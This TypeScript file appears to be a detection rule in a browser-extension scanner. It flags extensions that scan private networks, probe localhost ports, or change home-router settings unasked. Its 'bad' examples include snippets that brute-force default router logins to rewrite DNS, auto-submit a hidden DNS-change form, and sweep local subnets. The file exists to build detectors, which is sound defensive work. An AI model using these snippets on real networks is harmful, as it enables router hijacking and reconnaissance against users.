import { happensUnasked } from '../../verdict/comesUnasked.ts';
import { patternOf } from '../../extension/patternOf.ts';
import { first } from '../../facts/first.ts';
import { saidPurpose } from '../../facts/extension/saidPurpose.ts';
import { constant, elementsOf, Op, valuesOf } from '../../facts/javascript/query.ts';
import { say } from '../../../texts/say.ts';
import { defineRule, type Hit } from '../../rule.ts';
import { backgroundExample, checkScripts, contentExample, type Judged } from './checkScripts.ts';
import { devicesFilled, devicesTried } from './devicesTried.ts';
import { GRAVE } from './grave.ts';
import { runsInPages } from './places.ts';
import { requestsOf } from './requestsOf.ts';

/** The beginning of an address for private use (RFC 1918). */
const HEAD = '(?:10\\.\\d{1,3}|192\\.168|172\\.(?:1[6-9]|2\\d|3[01]))\\.';
/** A request whose host is counted through. */
const ASKED = new RegExp(`^(?:https?|wss?)://${HEAD}(?:\\d{1,3}\\.)?\\*`);
/** Three numbers of one by themselves: nobody writes them down but to count through what stands behind. */
const ALONE = new RegExp(`^(?:(?:https?|wss?)://)?${HEAD}\\d{1,3}\\.?$`);

export const localNetworkScanned = defineRule({
  id: 'local-network-scanned',
  title: 'Scans the local network',
  severity: 'medium',
  confidence: 'medium',
  category: 'code',
  applies: 'extension',
  cwe: 'CWE-200',
  references: ['https://attack.mitre.org/techniques/T1046/', 'https://wicg.github.io/local-network-access/'],
  why: 'Behind the firewall are routers, printers, cameras and servers without passwords. Whoever knows them can attack them through this browser.',
  remedy: 'Ask the user for the address of the device, and contact no other.',
  cap: { grade: 'D', reason: 'it searches the user’s network for devices unasked', from: 'high' },
  check: checkScripts(function* (judged) {
    const { facts, script, hit } = judged;
    yield* portsProbed(judged);
    yield* devicesChanged(judged);
    yield* devicesTried(judged, () => OF_DEVICES.test(facts.whole(saidPurpose)));
    const parts = script.strings.filter((text) => text.length < 40 && /(?:^|\/)(?:10\.\d|192\.168|172\.\d)/.test(text));
    if (parts.length === 0) return;
    const isCounted = parts.some((text) => ALONE.test(text));
    for (const { value, pos, address } of first(requestsOf(script), 200)) {
      const to = patternOf(facts, script, address);
      if (!ASKED.test(to) && !(isCounted && /^(?:(?:https?|wss?):\/\/)?\*/.test(to))) continue;
      const evidence = ASKED.test(to) ? to.slice(0, 160) : parts.find((text) => ALONE.test(text));
      yield hit(value, {
        ...(evidence === undefined ? {} : { evidence }),
        ...(happensUnasked(facts, script, pos) ? { severity: 'high', confidence: 'high' } : {}),
      });
      return;
    }
  }),
  examples: {
    bad: [
      backgroundExample(
        'const gates = ["192.168.0.1", "192.168.1.1"]; const logins = [["admin", "admin"], ["admin", "1234"]]; chrome.alarms.onAlarm.addListener(async () => { for (const ip of gates) for (const [who, key] of logins) await fetch(`http://${ip}/dns.cgi`, { method: "POST", headers: { Authorization: "Basic " + btoa(who + ":" + key) }, body: new URLSearchParams({ dns1: "203.0.113.53" }) }); });',
      ),
      contentExample(
        'setTimeout(() => { const f = document.createElement("form"); f.method = "POST"; f.action = "http://192.168.1.1/goform/setDns?dns1=203.0.113.53"; document.body.append(f); f.submit(); }, 9e3);',
      ),
      backgroundExample(
        'const ask = async (host, port) => { try { await fetch(`http://${host}:${port}/`); found.push(host); } catch {} }; chrome.alarms.onAlarm.addListener(async () => { for (const net of ["192.168.0", "192.168.1"]) for (let i = 1; i < 255; i++) await ask(net + "." + i, 80); });',
      ),
      backgroundExample(
        'setTimeout(async () => { for (let i = 1; i < 255; i++) await fetch("http://192.168.1." + i, { mode: "no-cors" }).then(() => open.push(i), () => {}); }, 5000);',
      ),
      contentExample(
        'for (let i = 1; i < 255; i++) { const ws = new WebSocket(`ws://10.0.0.${i}:8080`); ws.onopen = () => open.push(i); }',
      ),
    ],
    good: [
      backgroundExample(
        'const gates = ["192.168.0.1", "192.168.1.1"]; chrome.alarms.onAlarm.addListener(async () => { for (const ip of gates) { const r = await fetch("http://" + ip + "/"); if (r.ok) chrome.action.setBadgeText({ text: "on" }); } }); chrome.action.onClicked.addListener(async () => { for (const ip of gates) await fetch("http://" + ip + "/reboot", { method: "POST" }); });',
      ),
      backgroundExample(
        'const own = (host) => host.startsWith("192.168.") || host.startsWith("10."); fetch(url).then(keep); fetch("http://192.168.1.1/status");',
      ),
      backgroundExample(
        'const box = { host: "192.168.178.1" }; fetch(`http://${box.host}/api`).then((r) => r.json()).then(show); fetch("http://127.0.0.1:" + port); fetch("http://192.168.1.1" + path);',
      ),
    ],
  },
});

/** A request to this computer whose port is counted through. */
const PORT = /^(?:https?|wss?):\/\/(?:localhost|127\.0\.0\.1|\[::1\]):\*/i;
/** So many ports in one list are tried one after the other. */
const FEWEST_PORTS = 3;

/** Ports of this computer that a script in pages of sites tries by itself: what listens there tells who somebody is. */
function* portsProbed({ facts, file, script, hit }: Judged): Generator<Hit> {
  if (!runsInPages(facts, file.path) || !script.strings.some((text) => /localhost|127\.0\.0\.1|\[::1\]/.test(text)))
    return;
  const isListed = valuesOf(script, Op.array).some((list) => {
    const all = elementsOf(script, list);
    return all.length >= FEWEST_PORTS && all.every((one) => /^\d{2,5}$/.test(constant(script, one) ?? ''));
  });
  if (!isListed) return;
  for (const { value, pos, address } of first(requestsOf(script), 200)) {
    const to = patternOf(facts, script, address);
    if (!PORT.test(to) || !happensUnasked(facts, script, pos)) continue;
    yield hit(value, { severity: 'high', confidence: 'high', evidence: to.slice(0, 160) });
    return;
  }
}

/** A device of the network at home, and words by which such devices take settings. */
const SETS_DEVICE =
  /^http:\/\/(?:192\.168\.\d{1,3}\.\d{1,3}|10\.\d{1,3}\.\d{1,3}\.\d{1,3}|172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}\.\d{1,3})(?::\d+)?\/(?=.*(?:set|apply|save|dns|dhcp|admin|passw|reboot|goform|\.cgi|upnp|firmware))/i;

/** Whoever installs such a thing expects it to talk to devices at home. */
const OF_DEVICES = /router|modem|device|camera|printer|\bnas\b|\btv\b|light|lamp|smart|home|wi-?fi|network|iot|cast/;

/** Settings of a device at home that are changed by themselves, by an extension that says nothing of devices. */
function* devicesChanged({ facts, script, hit }: Pick<Judged, 'facts' | 'script' | 'hit'>): Generator<Hit> {
  if (!script.strings.some((text) => /\/\/(?:192\.168|10|172)\./.test(text))) return;
  if (OF_DEVICES.test(facts.whole(saidPurpose))) return;
  yield* devicesFilled({ facts, script, hit }, (to) => SETS_DEVICE.test(to));
  for (const { value, pos, address } of first(requestsOf(script), 200)) {
    const to = patternOf(facts, script, address);
    if (SETS_DEVICE.test(to) && happensUnasked(facts, script, pos))
      yield hit(value, { ...GRAVE, evidence: to.slice(0, 160), message: say('home-device-changed') });
  }
}
